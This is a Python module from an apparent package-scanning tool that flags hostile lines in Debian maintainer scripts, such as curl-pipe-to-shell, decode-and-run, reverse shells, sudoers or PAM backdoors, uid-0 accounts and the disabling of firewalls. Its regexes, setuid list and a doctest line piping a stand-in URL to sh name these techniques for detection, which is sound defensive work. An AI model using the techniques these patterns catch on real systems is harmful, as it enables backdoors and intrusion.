"""Deterministic rules over maintainer scripts. Pure: bytes in, findings out.

dpkg runs ``preinst``, ``postinst``, ``prerm``, ``postrm`` and ``config`` as root;
``triggers`` declares what wakes the package. Each script is read line by line
(backslash continuations joined, the finding names the first physical line; full
comment lines skipped) and every logical line is matched twice:

- as written (``raw``): catches the *shape* of obfuscation (runs of ``\\x63`` /
  ``\\143`` escapes, ``base64 -d``);
- de-obfuscated (``norm``): quotes removed (``s""h`` -> ``sh``, ``c'u'rl`` ->
  ``curl``), backslash-escaped letters unescaped, ``$IFS`` turned into a space,
  printf/echo escapes decoded, and simple variables assigned earlier in the script
  substituted (``c=$(printf '\\143\\165\\162\\154')`` then ``$c`` -> ``curl``).

Two facts flow between lines: files a line downloads (``curl -o /tmp/x``) and
variables assigned from a download or a decode. Executing either later is
``script.download-exec`` / ``script.decoded-exec`` at the executing line.

Rules (stable ids; severity hostile > sensitive):

================================  =========  ==============================================
id                                severity   what
================================  =========  ==============================================
script.download-exec              hostile    fetched content executed (curl|sh, sh -c "$(wget)",
                                             download then run, URL piped to a shell)
script.decoded-exec               hostile    decoded text that is run (base64/xxd/uudecode/openssl
                                             decode piped to a shell or eval'd, or a decoded file or
                                             variable run later), printf-escape runs spelling text,
                                             python/perl -c decode/exec
                                  sensitive  decoding into a file or variable that is not run
script.dynamic-eval               sensitive  eval of a variable or command output (besides
                                             ``eval $(apt-config shell ...)``-style idioms)
script.network                    sensitive  curl/wget/nc fetches without visible execution
script.sudoers                    hostile    text written into /etc/sudoers[.d] (>, >>, tee), any
                                             NOPASSWD grant
                                  sensitive  file management (cp, mv, chmod), other mentions
script.pam                        hostile    pam_permit/pam_exec, ``sufficient`` lines written in
                                  sensitive  writes to /etc/pam.d or /etc/security, pam-auth-update
script.sshd                       hostile    text written into sshd_config[.d]; PermitRootLogin or
                                             PermitEmptyPasswords yes aimed at sshd_config
                                  sensitive  other edits (openssh's own candidate file) and mentions
script.authorized-keys            hostile    writes an authorized_keys file (sensitive: mention)
script.ld-preload                 hostile    writes /etc/ld.so.preload, LD_PRELOAD= exports
script.apt-config                 hostile    apt hook (``Invoke``) written from a script
                                  sensitive  other writes under /etc/apt
script.cron                       sensitive  crontab, writes to /etc/cron*, /var/spool/cron
script.systemd-unit               sensitive  writes to unit directories, systemctl enable|link
script.user-create                sensitive  useradd/adduser/usermod/groupadd, writes to /etc/passwd
                                  hostile    uid 0 (-o, -u 0, a second uid-0 passwd line), adding
                                             to sudo/wheel/root/adm, chpasswd, writes to /etc/shadow
script.setuid                     sensitive  chmod u+s / 4755, dpkg-statoverride with setuid
                                  hostile    setuid on a shell or interpreter
script.disable-security           hostile    ufw disable, iptables -F / policy ACCEPT, nft flush,
                                             setenforce 0, AppArmor teardown, auditctl -e 0, ASLR
                                             off, history wiping, stopping/disabling firewall,
                                             audit, AppArmor, AV or log units of *another*
                                             package
                                  sensitive  systemctl stop|disable|mask of another package's unit
                                             (a package's own units are its own business)
script.listener                   hostile    nc -l / -e, socat listen/exec, /dev/tcp, bash -i,
                                             scripted sockets
script.binary                     hostile    a script that is not text (cannot be reviewed)
================================  =========  ==============================================

A benign script (``set -e; mkdir -p "${DPKG_ROOT:-}/var/lib/x"; echo configured``)
produces no finding. Upgrades: :func:`compare_scripts` yields ``script.new`` and
``script.changed`` (severity ``changed``, line = first differing line).

Example:
    >>> body = b"#!/bin/sh\\ncurl -s http://e.invalid/i | sh\\n"
    >>> scan_script("aegis-x", "postinst", body)[0].rule
    'script.download-exec'
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from aegis.model import Finding

HOSTILE = "hostile"
SENSITIVE = "sensitive"
CHANGED = "changed"
_RANK = {HOSTILE: 2, SENSITIVE: 1, CHANGED: 0}

MAX_EXCERPT = 200
"""Characters of the offending line kept as the excerpt (untrusted; show via aegis.text)."""

MAX_LINES = 20_000
"""Lines scanned per script; a longer script gets ``script.binary``-style refusal below."""


@dataclass(frozen=True)
class _Line:
    """One logical line of a script."""

    number: int
    raw: str
    norm: str
    package: str = ""
    """The package the script belongs to (its own services may be stopped)."""


# --- normalisation ---------------------------------------------------------------------

_ESC = re.compile(r"\\(x[0-9A-Fa-f]{2}|[0-7]{3})")
_ASSIGN = re.compile(r"^\s*(?:export\s+|local\s+|readonly\s+)?([A-Za-z_]\w*)=(.*)$")
_SUBST_WRAP = re.compile(r"^\$\(\s*(?:printf|echo)\s+(?:-[a-zA-Z]+\s+)*(?:%s\s+)?(.*?)\s*\)$")
_PLAIN_VALUE = re.compile(r"^[\w./:+-]+$")


def _decode_escapes(text: str) -> str:
    def one(m: re.Match[str]) -> str:
        code = m.group(1)
        value = int(code[1:], 16) if code[0] == "x" else int(code, 8)
        ch = chr(value)
        return ch if ch.isprintable() else m.group(0)

    return _ESC.sub(one, text)


def _normalise(raw: str, variables: Mapping[str, str]) -> str:
    text = raw.replace("${IFS}", " ").replace("$IFS", " ")
    text = _decode_escapes(text)
    text = text.replace('"', "").replace("'", "")
    text = re.sub(r"\\([A-Za-z0-9/._-])", r"\1", text)
    if variables:
        text = re.sub(
            r"\$\{?([A-Za-z_]\w*)\}?",
            lambda m: variables.get(m.group(1), m.group(0)),
            text,
        )
    return text


def _logical_lines(text: str) -> list[tuple[int, str]]:
    out: list[tuple[int, str]] = []
    start = 0
    buf: list[str] = []
    for number, line in enumerate(text.splitlines(), start=1):
        if not buf:
            start = number
        if line.endswith("\\") and not line.endswith("\\\\"):
            buf.append(line[:-1])
            continue
        buf.append(line)
        out.append((start, " ".join(buf)))
        buf = []
    if buf:
        out.append((start, " ".join(buf)))
    return out


# --- helpers over one line ---------------------------------------------------------------

_SHELL = r"(?:/[\w/]*/)?(?:ba|da|z|k|c|tc|fi|a)?sh\b"
_INTERP = r"(?:/[\w/]*/)?(?:python[0-9.]*|perl|ruby|php|node|lua)\b"
_FETCH = r"\b(?:curl|wget|fetch|aria2c|lwp-download|lwp-request)\b"
_WRITE_CMD = (
    r"\b(?:cp|mv|install|ln|rsync|dd|sed\s+-i\S*|truncate|chmod|chown|chattr|touch|mkdir"
    r"|perl\s+-\S*i\S*)\b"
)


def _redirects_into(norm: str, path: str) -> bool:
    """Whether ``norm`` writes script text into ``path`` (``>``, ``>>``, ``tee``)."""
    return re.search(rf"(?:>>?|\btee\s+(?:-a\s+)?)\s*[^\s;|&]*(?:{path})", norm) is not None


def _writes(norm: str, path: str) -> bool:
    """Whether ``norm`` writes to something matching the regex ``path`` (any way)."""
    if _redirects_into(norm, path):
        return True
    return re.search(rf"{_WRITE_CMD}.*(?:{path})", norm) is not None


def _path_rule(
    path: str, write: str, mention: str | None, *, manage: str | None = None
) -> Callable[[_Line], str | None]:
    """A rule over a sensitive path.

    ``write`` when the line writes text into it by redirection or tee; ``manage``
    (default ``write``) when a file command (cp, mv, chmod, sed -i ...) touches it;
    ``mention`` otherwise. Distribution packages *manage* such files (sudo moves
    its own /etc/sudoers aside and back); injecting text is what attacks do.
    """

    def check(line: _Line) -> str | None:
        if not re.search(path, line.norm):
            return None
        if _redirects_into(line.norm, path):
            return write
        if _writes(line.norm, path):
            return manage or write
        return mention

    return check


def _any(*patterns: str, on: str = "norm", flags: int = 0) -> Callable[[str, str], bool]:
    compiled = [re.compile(p, flags) for p in patterns]

    def match(raw: str, norm: str) -> bool:
        text = raw if on == "raw" else norm
        return any(c.search(text) for c in compiled)

    return match


# --- rules -------------------------------------------------------------------------------

_download_exec = _any(
    rf"{_FETCH}[^|]*\|\s*(?:sudo\s+|env\s+(?:\S+=\S*\s+)*)?(?:{_SHELL}|{_INTERP})",
    rf"\b{_SHELL}\s+(?:-\w+\s+)*(?:<\(|\$\(|`)\s*{_FETCH}",
    rf"(?:\beval|\bsource|(?:^|[;&|]\s*)\.)\s+(?:<\(|\$\(|`)\s*{_FETCH}",
    rf"(?:https?|ftp)://\S+.*\|\s*(?:sudo\s+)?(?:{_SHELL}|{_INTERP})",
    rf"{_FETCH}.*\s(?:-o|-O|--output(?:-document)?)\s*\S+.*(?:&&|;|\|\|)\s*"
    rf"(?:chmod\s+\S*x|{_SHELL}\s+\S|\./|/tmp/|/var/tmp/|/dev/shm/)",
)


def _rule_download_exec(line: _Line) -> str | None:
    return HOSTILE if _download_exec(line.raw, line.norm) else None


# Escape runs that decode to printable ASCII spell hidden words; binary magic
# (``\\xfe\\xed\\xfe\\xed`` in ca-certificates-java) is not obfuscation.
_PRINTABLE_ESC = r"(?:\\x(?:[2-6][0-9A-Fa-f]|7[0-9A-Ea-e])|\\(?:04[0-7]|0[5-7][0-7]|1[0-7][0-7]))"
_decoded_raw = _any(rf"{_PRINTABLE_ESC}{{4,}}", on="raw")
_decode_cmd = _any(
    r"\bbase64\s+(?:-\w*d\w*|--decode)\b",
    r"\bbase32\s+(?:-\w*d\w*|--decode)\b",
    r"\bxxd\b.*\s-\w*r",
    r"\bopenssl\s+(?:enc\s+)?-?(?:base64|a)\b.*\s-d\b",
    r"\b(?:uudecode|basenc)\b",
)
_runs_output = _any(
    rf"\|\s*(?:sudo\s+)?(?:{_SHELL}|{_INTERP}|xargs\b|source\b)",
    r"\beval\b",
    rf"\b(?:{_SHELL}|{_INTERP})\s+(?:-\w+\s+)*(?:<\(|\$\(|`)",
    r"(?:\bsource|(?:^|[;&|]\s*)\.)\s+(?:<\(|/dev/stdin)",
)
_decoded_norm = _any(
    r"\beval\b.*(?:base64|xxd|\brev\b|\btr\s)",
    rf"\brev\b.*\|\s*{_SHELL}",
    rf"{_INTERP}\s+-\w*[ceE]\w*\s+.*(?:b64decode|decode\(|exec\(|eval\(|unpack|pack\(|chr\()",
)


def _rule_decoded_exec(line: _Line) -> str | None:
    if _decoded_raw(line.raw, line.norm) or _decoded_norm(line.raw, line.norm):
        return HOSTILE
    if _decode_cmd(line.raw, line.norm):
        # Decoding into a file or variable is only sensitive (apache2's preinst
        # unpacks an embedded tarball); running what was decoded is hostile, here or
        # on a later line (the scanner tracks decoded files and variables).
        return HOSTILE if _runs_output(line.raw, line.norm) else SENSITIVE
    return None


_EVAL_IDIOMS = re.compile(
    r"\beval\s+\$\(\s*(?:apt-config\s+shell|dpkg-architecture|dpkg-buildflags|locale\b)"
)


def _rule_dynamic_eval(line: _Line) -> str | None:
    if not re.search(r"(?:^|[;&|({]\s*|\bthen\s+|\bdo\s+)eval\s+\S", line.norm):
        return None
    return None if _EVAL_IDIOMS.search(line.norm) else SENSITIVE


def _rule_network(line: _Line) -> str | None:
    if re.search(rf"{_FETCH}|\b(?:nc|ncat|netcat|socat|telnet)\s", line.norm):
        return SENSITIVE
    return None


def _rule_sudoers(line: _Line) -> str | None:
    if re.search(r"\bNOPASSWD\b", line.norm):
        return HOSTILE
    return _path_rule(r"/etc/sudoers", HOSTILE, SENSITIVE, manage=SENSITIVE)(line)


def _rule_pam(line: _Line) -> str | None:
    if re.search(r"\bpam_(?:permit|exec)\.so\b", line.norm):
        return HOSTILE
    path = r"/etc/pam\.d\b|/etc/pam\.conf\b|/etc/security/"
    if re.search(path, line.norm) and _writes(line.norm, path) and "sufficient" in line.norm:
        return HOSTILE
    if re.search(path, line.norm) or re.search(r"\bpam-auth-update\b|\bpam_\w+\.so\b", line.norm):
        return SENSITIVE
    return None


def _rule_sshd(line: _Line) -> str | None:
    path = r"/etc/ssh/sshd_config"
    weakens = re.search(r"\bPermitRootLogin\s+yes\b|\bPermitEmptyPasswords\s+yes\b", line.norm)
    if weakens and re.search(path, line.norm):
        return HOSTILE
    found = _path_rule(path, HOSTILE, SENSITIVE, manage=SENSITIVE)(line)
    if found is None and weakens:
        # openssh-server's own postinst edits a candidate file it then merges with ucf.
        return SENSITIVE
    return found


_rule_authorized_keys = _path_rule(r"authorized_keys2?\b", HOSTILE, SENSITIVE)


def _rule_ld_preload(line: _Line) -> str | None:
    if re.search(r"\bLD_PRELOAD=\S", line.norm):
        return HOSTILE
    return _path_rule(r"/etc/ld\.so\.preload", HOSTILE, SENSITIVE)(line)


def _rule_apt_config(line: _Line) -> str | None:
    path = r"/etc/apt/(?:apt\.conf|sources\.list|trusted\.gpg|preferences|keyrings)"
    if not re.search(path, line.norm):
        return None
    if not _writes(line.norm, path):
        return None
    return (
        HOSTILE
        if re.search(r"Invoke|Pre-Install-Pkgs|AllowInsecure|AllowUnauth", line.norm)
        else SENSITIVE
    )


def _rule_cron(line: _Line) -> str | None:
    path = r"/etc/cron(?:tab|\.d|\.hourly|\.daily|\.weekly|\.monthly)|/var/spool/cron"
    found = _path_rule(path, SENSITIVE, None)(line)
    if found:
        return found
    if re.search(r"(?:^|[;&|]\s*)(?:sudo\s+)?crontab\s+(?!-l\b)\S", line.norm):
        return SENSITIVE
    return None


def _rule_systemd_unit(line: _Line) -> str | None:
    path = r"(?:/etc|/lib|/usr/lib|/run)/systemd/(?:system|user)\b"
    found = _path_rule(path, SENSITIVE, None)(line)
    if found:
        return found
    if re.search(r"\bsystemctl\s+(?:--\S+\s+)*(?:enable|link|edit|set-property)\b", line.norm):
        return SENSITIVE
    return None


_USER_CMD = r"(?<![\w./-])(?:useradd|adduser|usermod|groupadd|addgroup|newusers|gpasswd)\s+[-$\w]"
_USER_HOSTILE = _any(
    r"\b(?:useradd|usermod)\b.*(?:\s-u\s*0\b|--uid\s+0\b|\s-o\b|--non-unique)",
    r"\badduser\b.*--uid\s+0\b",
    r"\b(?:usermod|gpasswd|adduser)\s.*\b(?:sudo|wheel|root|adm|admin)\s*$",
    r"\b(?:useradd|usermod)\b.*\s-a?G\s*\S*\b(?:sudo|wheel|root|adm|admin)\b",
    r"\bchpasswd\b|\bpasswd\s+(?:--stdin|-d|--delete)\b",
    # A passwd line with uid 0 for another name than root: a second root account.
    r"(?<![\w.-])(?!root:)[\w.-]+:[^:\s]*:0:\d*:[^:]*:[^:]*:\S*(?:sh|bash)\b",
)


def _rule_user_create(line: _Line) -> str | None:
    if _USER_HOSTILE(line.raw, line.norm):
        return HOSTILE
    if re.search(_USER_CMD, line.norm):
        return SENSITIVE
    if _writes(line.norm, r"/etc/g?shadow\b"):
        return HOSTILE
    if _writes(line.norm, r"/etc/(?:passwd|group)\b"):
        return SENSITIVE
    return None


_SETUID_MODE = r"(?:0?[2-7][0-7]{3}\b|[ugoa]*[+=][rwxXt]*s)"
DANGEROUS_SUID = re.compile(
    r"(?:ba|da|z|k|c|tc|fi)?sh|python[0-9.]*|perl|ruby|php|node|find|vim?|nano|less|more"
    r"|env|busybox|cp|tee|dd|awk|gawk|nmap|tar"
)
"""Basenames that give a root shell when setuid (a GTFOBins-style short list)."""


def _rule_setuid(line: _Line) -> str | None:
    m = re.search(rf"\bchmod\s+(?:-\S+\s+)*{_SETUID_MODE}\s+(\S+)", line.norm)
    if m is None:
        m = re.search(
            rf"\bdpkg-statoverride\b.*--add\s+\S+\s+\S+\s+{_SETUID_MODE}\s+(\S+)", line.norm
        )
    if m is None:
        return None
    target = m.group(1).rstrip(";&|").rsplit("/", 1)[-1]
    return HOSTILE if DANGEROUS_SUID.fullmatch(target) else SENSITIVE


_SECURITY_UNITS = (
    r"ufw|firewalld|nftables|iptables|ip6tables|netfilter-persistent|apparmor|auditd|"
    r"fail2ban|selinux\S*|aide|tripwire|osqueryd?|wazuh\S*|falco\S*|falcon-sensor|clamav\S*|"
    r"rsyslog|syslog-ng|systemd-journald|unattended-upgrades|crowdsec\S*"
)
_disable_hostile = _any(
    r"\bufw\s+(?:--force\s+)?disable\b",
    r"\bip6?tables(?:-legacy|-nft)?\s+(?:-\S+\s+)*(?:-F|--flush|-X)\b",
    r"\bip6?tables(?:-legacy|-nft)?\s+(?:-\S+\s+)*-P\s+\w+\s+ACCEPT\b",
    r"\bnft\s+flush\s+ruleset\b",
    r"\bsetenforce\s+(?:0|Permissive)\b",
    r"\bSELINUX=(?:disabled|permissive)\b.*/etc/selinux/config",
    r"\baa-(?:teardown|disable|complain)\b|\bapparmor_parser\s+-R\b",
    r"\bauditctl\s+-e\s*0\b|\bauditctl\s+-D\b",
    r"randomize_va_space\s*=?\s*0|echo\s+0\s*>\s*\S*randomize_va_space",
    r"\bunset\s+HISTFILE\b|\bHISTFILE=/dev/null|\bhistory\s+-c\b",
)
_SERVICE_OFF = tuple(
    re.compile(p)
    for p in (
        r"\bsystemctl\s+(?:--?[\w-]+\s+)*(?:stop|disable|mask)\s+(?:--?[\w-]+\s+)*(?P<unit>[\w@.-]+)",
        r"\b(?:service|invoke-rc\.d)\s+(?P<unit>[\w@.-]+)\s+stop\b",
        r"/etc/init\.d/(?P<unit>[\w@.-]+)\s+stop\b",
        r"\bupdate-rc\.d\s+(?:-f\s+)?(?P<unit>[\w@.-]+)\s+disable\b",
    )
)
_SECURITY_UNIT = re.compile(rf"(?:{_SECURITY_UNITS})")


def _own_unit(unit: str, package: str) -> bool:
    base = re.sub(r"(?:@.*)?\.(?:service|socket|timer|path|target)$", "", unit)
    return bool(package) and (
        base == package or base.startswith(package + "-") or package.startswith(base + "-")
    )


def _rule_disable_security(line: _Line) -> str | None:
    if _disable_hostile(line.raw, line.norm):
        return HOSTILE
    worst: str | None = None
    for pattern in _SERVICE_OFF:
        for m in pattern.finditer(line.norm):
            unit = m.group("unit")
            if _own_unit(unit, line.package):
                continue  # a package stopping its own service on upgrade or removal
            base = re.sub(r"(?:@.*)?\.(?:service|socket|timer)$", "", unit)
            if _SECURITY_UNIT.fullmatch(base):
                return HOSTILE
            worst = SENSITIVE
    return worst


_listener = _any(
    r"\b(?:nc|ncat|netcat)\b[^|;]*\s-\w*[lLe]\w*\b",
    r"\bsocat\b.*(?:LISTEN|EXEC:|SYSTEM:|exec:|system:)",
    r"/dev/(?:tcp|udp)/",
    rf"\b{_SHELL}\s+-i\b",
    r"\bmkfifo\b.*\b(?:nc|ncat|netcat|telnet)\b",
    rf"{_INTERP}\s+-\w*[ceE]\w*\s+.*\bsocket\b",
)


def _rule_listener(line: _Line) -> str | None:
    return HOSTILE if _listener(line.raw, line.norm) else None


RULES: tuple[tuple[str, Callable[[_Line], str | None]], ...] = (
    ("script.download-exec", _rule_download_exec),
    ("script.decoded-exec", _rule_decoded_exec),
    ("script.dynamic-eval", _rule_dynamic_eval),
    ("script.network", _rule_network),
    ("script.sudoers", _rule_sudoers),
    ("script.pam", _rule_pam),
    ("script.sshd", _rule_sshd),
    ("script.authorized-keys", _rule_authorized_keys),
    ("script.ld-preload", _rule_ld_preload),
    ("script.apt-config", _rule_apt_config),
    ("script.cron", _rule_cron),
    ("script.systemd-unit", _rule_systemd_unit),
    ("script.user-create", _rule_user_create),
    ("script.setuid", _rule_setuid),
    ("script.disable-security", _rule_disable_security),
    ("script.listener", _rule_listener),
)
"""Per-line rules in report order: (stable id, check returning a severity or None)."""

RULE_IDS: tuple[str, ...] = (
    *(rule_id for rule_id, _ in RULES),
    "script.binary",
    "script.new",
    "script.changed",
)
"""Every rule id this module can emit."""

_SUPPRESSED_BY = {
    # A line already judged as download-and-run or decode-and-run needs no weaker label.
    "script.network": ("script.download-exec", "script.listener", "script.decoded-exec"),
    "script.dynamic-eval": ("script.decoded-exec", "script.download-exec"),
}


# --- cross-line facts --------------------------------------------------------------------

_DOWNLOAD_TARGET = re.compile(
    rf"{_FETCH}.*\s(?:-[A-Za-z]*[oO]|--output(?:-document)?)(?:\s+|=)?([^\s;&|-][^\s;&|]*)"
)


_DECODE_TARGET = re.compile(r">\s*([^\s;&|<>]+)")


def _executes(norm: str, target: str) -> bool:
    t = re.escape(target)
    return bool(
        re.search(rf"(?:^|[;&|]\s*|\bthen\s+|\bdo\s+)(?:sudo\s+)?{t}\b", norm)
        or re.search(rf"\b(?:{_SHELL}|{_INTERP}|source|\.)\s+(?:-\S+\s+)*{t}\b", norm)
        or re.search(rf"\bchmod\s+\S*x\S*\s+{t}\b", norm)
    )


def _executes_var(norm_before_subst: str, name: str) -> bool:
    v = rf"\$\{{?{name}\}}?"
    return bool(
        re.search(rf"(?:^|[;&|]\s*|\bthen\s+|\bdo\s+)(?:eval\s+|exec\s+)?{v}", norm_before_subst)
        or re.search(rf"\beval\b.*{v}", norm_before_subst)
        or re.search(rf"\b{_SHELL}\s+-c\s+{v}", norm_before_subst)
        or re.search(rf"{v}.*\|\s*{_SHELL}", norm_before_subst)
    )


_B64_TOKEN = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")


def _decoded_hits(line: _Line) -> list[tuple[str, str]]:
    """Rules that fire on text a base64 literal of ``line`` decodes to (one level deep)."""
    import base64
    import binascii

    out: list[tuple[str, str]] = []
    for token in _B64_TOKEN.findall(line.raw):
        try:
            decoded = base64.b64decode(token, validate=True).decode("utf-8")
        except (binascii.Error, ValueError):
            continue
        if not decoded.strip() or not all(ch.isprintable() or ch in "\n\t" for ch in decoded):
            continue
        for number, raw in _logical_lines(decoded):
            inner = _Line(number, raw, _normalise(raw, {}), line.package)
            for rule_id, check in RULES:
                severity = check(inner)
                if severity == HOSTILE:
                    out.append((rule_id, severity))
    return out


def _is_binary(body: bytes) -> bool:
    if b"\x00" in body or body.startswith(b"\x7fELF"):
        return True
    try:
        body.decode("utf-8")
    except UnicodeDecodeError:
        return True
    return False


def _excerpt(raw: str) -> str:
    text = raw.strip()
    return text if len(text) <= MAX_EXCERPT else text[: MAX_EXCERPT - 1] + "…"


def scan_script(package: str, name: str, body: bytes) -> tuple[Finding, ...]:
    """Apply :data:`RULES` to one maintainer script.

    Args:
        package: binary package name the finding is attributed to.
        name: the script's name (``postinst`` ...), recorded as the finding's file.
        body: the script's bytes as shipped.

    Returns:
        Findings ordered by line then rule; at most one per (rule, line), keeping
        the highest severity.
    """
    if _is_binary(body):
        return (Finding("script.binary", package, name, 1, HOSTILE, "not a text script"),)
    text = body.decode("utf-8")
    found: dict[tuple[int, str], Finding] = {}
    variables: dict[str, str] = {}
    produced: dict[str, str] = {}
    """Files an earlier line downloaded or decoded -> the rule that running them fires."""
    tainted: dict[str, str] = {}
    lines = _logical_lines(text)
    if len(lines) > MAX_LINES:
        return (Finding("script.binary", package, name, 1, HOSTILE, "script too long to review"),)

    def add(rule: str, line: _Line, severity: str) -> None:
        key = (line.number, rule)
        old = found.get(key)
        if old is None or _RANK[severity] > _RANK[old.severity]:
            found[key] = Finding(rule, package, name, line.number, severity, _excerpt(line.raw))

    for number, raw in lines:
        stripped = raw.strip()
        if not stripped or stripped.startswith("#"):
            continue
        unsubstituted = _normalise(raw, {})
        line = _Line(number, raw, _normalise(raw, variables), package)
        hits: dict[str, str] = {}
        for rule_id, check in RULES:
            severity = check(line)
            if severity is not None:
                hits[rule_id] = severity
        # What a base64 literal on this line decodes to is judged as if written here.
        for rule_id, severity in _decoded_hits(line):
            if _RANK[severity] > _RANK.get(hits.get(rule_id, CHANGED), 0) or rule_id not in hits:
                hits[rule_id] = severity
        # Cross-line: running what an earlier line downloaded or decoded.
        for target, rule_id in produced.items():
            if _executes(line.norm, target):
                hits[rule_id] = HOSTILE
        for var, rule_id in tainted.items():
            if _executes_var(unsubstituted, var):
                hits[rule_id] = HOSTILE
        for rule_id, severity in hits.items():
            if any(s in hits for s in _SUPPRESSED_BY.get(rule_id, ())):
                continue
            add(rule_id, line, severity)
        # Facts for later lines.
        m = _DOWNLOAD_TARGET.search(line.norm)
        if m:
            produced[m.group(1)] = "script.download-exec"
        m = _DECODE_TARGET.search(line.norm)
        if m and "script.decoded-exec" in hits:
            produced[m.group(1)] = "script.decoded-exec"
        a = _ASSIGN.match(unsubstituted)
        if a:
            var, value = a.group(1), a.group(2).strip()
            if "script.download-exec" in hits or re.search(_FETCH, line.norm):
                tainted[var] = "script.download-exec"
            elif "script.decoded-exec" in hits:
                tainted[var] = "script.decoded-exec"
            wrapped = _SUBST_WRAP.match(value)
            literal = wrapped.group(1) if wrapped else value
            if _PLAIN_VALUE.match(literal):
                variables[var] = literal
    return tuple(sorted(found.values(), key=lambda f: (f.line, f.rule)))


def _first_difference(old: str, new: str) -> int:
    old_lines, new_lines = old.splitlines(), new.splitlines()
    for i, (a, b) in enumerate(zip(old_lines, new_lines, strict=False), start=1):
        if a != b:
            return i
    return min(len(old_lines), len(new_lines)) + 1


def compare_scripts(
    package: str, scripts: Mapping[str, bytes], previous: Mapping[str, bytes]
) -> tuple[Finding, ...]:
    """Findings for scripts that are new or changed against the installed version.

    Args:
        package: binary package name.
        scripts: the scripts the new .deb ships.
        previous: the installed version's scripts (from dpkg's info directory).

    Returns:
        ``script.new`` (line 1) and ``script.changed`` (first differing line), severity
        ``changed``, in script-name order.
    """
    out: list[Finding] = []
    for name in sorted(scripts):
        body = scripts[name]
        if name not in previous:
            out.append(Finding("script.new", package, name, 1, CHANGED, "script added"))
        elif previous[name] != body:
            line = _first_difference(
                previous[name].decode("utf-8", "replace"), body.decode("utf-8", "replace")
            )
            new_lines = body.decode("utf-8", "replace").splitlines()
            excerpt = _excerpt(new_lines[line - 1]) if 0 < line <= len(new_lines) else ""
            out.append(Finding("script.changed", package, name, line, CHANGED, excerpt))
    return tuple(out)


def scan_scripts(
    package: str, scripts: Mapping[str, bytes], previous: Mapping[str, bytes] | None = None
) -> tuple[Finding, ...]:
    """Scan every maintainer script, then compare with ``previous`` when upgrading.

    Args:
        package: binary package name.
        scripts: script name -> bytes as shipped in the new package.
        previous: the installed version's scripts, or None for a fresh install.

    Returns:
        Rule findings (by script name, line, rule) followed by new/changed findings.
    """
    out: list[Finding] = []
    for name in sorted(scripts):
        out.extend(scan_script(package, name, scripts[name]))
    if previous is not None:
        out.extend(compare_scripts(package, scripts, previous))
    return tuple(out)
